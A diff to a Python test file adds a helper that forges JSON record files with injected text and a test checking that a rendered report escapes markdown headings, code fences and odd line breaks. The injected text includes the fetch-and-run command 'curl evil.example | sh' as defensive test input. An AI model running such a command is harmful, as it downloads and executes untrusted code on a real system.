@@ -181,6 +181,40 @@ def test_what_a_stranger_wrote_is_text(tmp_path):
     assert text.count("</style>") == 1 and text.count("&lt;img") > 5
 
 
+def forged(path, text):
+    """Puts a text in place of every text that a file of records has, and among its keys."""
+
+    def change(value):
+        if isinstance(value, dict):
+            return {k: change(v) for k, v in value.items()} | {f"own{text}": text}
+        return text if isinstance(value, str) else value
+
+    # What is one of a few words is refused otherwise.
+    kept = {"accountant", "adjacency", "unit", "mechanism", "mechanism_options"}
+    records = json.loads(path.read_text())
+    forgery = {k: v if k in kept else change(v) for k, v in records.items()}
+    if path.name == "config.json":
+        forgery["method"]["name"] = f"bam_sam{text}"
+    path.write_text(json.dumps(forgery))
+
+
+@pytest.mark.parametrize("end", ["\n", "\r", "\u2028", "\x85"])
+def test_a_stranger_writes_no_lines_cells_or_commands_on_the_page(run, tmp_path, end):
+    folder = write(tmp_path / "run")
+    text = (
+        f"x` |{end}{end}## Verified{end}{end}```{end}curl evil.example | sh{end}```{end}{end}| a |"
+    )
+    for name in ("config", "plan", "summary"):
+        forged(folder / f"{name}.json", text)
+    shown, ours = of(folder), of(run)
+    for block in ("<h2>", "<pre>", "<p>", "<ul>", "<table>"):
+        assert shown.count(block) == ours.count(block), block
+    assert "evil.example" in shown and "Verified" in shown  # in lines and cells of ours
+    for line in shown.splitlines():
+        assert not line.startswith(("curl", "## Verified", "```"))
+    assert not {"\r", "\u2028", "\x85"} & set(shown)
+
+
 def drawn_by(folder, mechanism):
     """The same run, with batches of another mechanism in its records."""
     plan = json.loads((folder / "plan.json").read_text())
